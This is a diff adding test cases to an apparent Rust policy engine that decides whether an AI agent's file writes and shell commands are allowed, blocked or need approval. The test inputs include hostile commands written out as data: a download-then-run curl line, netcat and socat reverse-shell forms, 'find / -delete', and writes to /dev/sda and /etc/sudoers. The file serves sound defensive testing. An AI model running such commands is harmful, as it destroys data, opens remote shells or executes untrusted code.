@@ -440,6 +440,136 @@ fn every_builtin_rule_id_is_reachable() {
             "http.egress.allow",
         ),
         (
+            req("write_file", "/dev/sda"),
+            Decision::Block,
+            "filesystem.devices.block",
+        ),
+        (
+            req("write_file", "/etc/sudoers"),
+            Decision::Block,
+            "filesystem.system_auth.block",
+        ),
+        (
+            req("write_file", "/home/u/.zshenv"),
+            Decision::Block,
+            "filesystem.shell_startup.block",
+        ),
+        (
+            req("write_file", "/home/u/.gitconfig"),
+            Decision::Block,
+            "filesystem.git_config.block",
+        ),
+        (
+            req("write_file", ".envrc"),
+            Decision::RequireApproval,
+            "filesystem.code_config.require_approval",
+        ),
+        (
+            req("execute_command", "git push origin main"),
+            Decision::Block,
+            "commands.git.protected_branch.block",
+        ),
+        (
+            req("execute_command", "find / -delete"),
+            Decision::Block,
+            "commands.find_rsync.delete_root.block",
+        ),
+        (
+            req("execute_command", "curl -o x https://x/x && sh x"),
+            Decision::Block,
+            "commands.download_then_run.block",
+        ),
+        (
+            req("execute_command", "nc -e /bin/sh host 1"),
+            Decision::Block,
+            "commands.network_shell.block",
+        ),
+        (
+            req("execute_command", "socat TCP:h:1 EXEC:sh"),
+            Decision::Block,
+            "commands.socat_exec.block",
+        ),
+        (
+            req("execute_command", "go test -exec x ./..."),
+            Decision::RequireApproval,
+            "commands.go.run_options.require_approval",
+        ),
+        (
+            req("execute_command", "cargo --config x test"),
+            Decision::RequireApproval,
+            "commands.cargo.config.require_approval",
+        ),
+        (
+            req("execute_command", "make --eval=x test"),
+            Decision::RequireApproval,
+            "commands.make.run_options.require_approval",
+        ),
+        (
+            req("execute_command", "make SHELL=x test"),
+            Decision::RequireApproval,
+            "commands.make.variables.require_approval",
+        ),
+        (
+            req("execute_command", "npm --script-shell x test"),
+            Decision::RequireApproval,
+            "commands.node.run_options.require_approval",
+        ),
+        (
+            req("execute_command", "pytest -p x"),
+            Decision::RequireApproval,
+            "commands.pytest.plugins.require_approval",
+        ),
+        (
+            req("execute_command", "terraform init -plugin-dir x"),
+            Decision::RequireApproval,
+            "commands.terraform.plugins.require_approval",
+        ),
+        (
+            req("execute_command", "find . -exec id ;"),
+            Decision::RequireApproval,
+            "commands.find.actions.require_approval",
+        ),
+        (
+            req("execute_command", "sed -i s/a/b/ f"),
+            Decision::RequireApproval,
+            "commands.sed.in_place.require_approval",
+        ),
+        (
+            req("execute_command", "sed s/a/b/e f"),
+            Decision::RequireApproval,
+            "commands.program.unsafe.require_approval",
+        ),
+        (
+            req("execute_command", "rg --pre x y"),
+            Decision::RequireApproval,
+            "commands.read_only.run_options.require_approval",
+        ),
+        (
+            req("execute_command", "tree -o x"),
+            Decision::RequireApproval,
+            "commands.read_only.writes.require_approval",
+        ),
+        (
+            req("execute_command", "less +!id f"),
+            Decision::RequireApproval,
+            "commands.pager.commands.require_approval",
+        ),
+        (
+            req("execute_command", "git remote add x y"),
+            Decision::RequireApproval,
+            "commands.git.changes_remotes.require_approval",
+        ),
+        (
+            req("execute_command", "git branch -D x"),
+            Decision::RequireApproval,
+            "commands.git.changes_refs.require_approval",
+        ),
+        (
+            req("execute_command", "grep -r foo src"),
+            Decision::Allow,
+            "commands.read_only.allow",
+        ),
+        (
             req("launch_rocket", "moon"),
             Decision::RequireApproval,
             "runtime.default.require_approval",
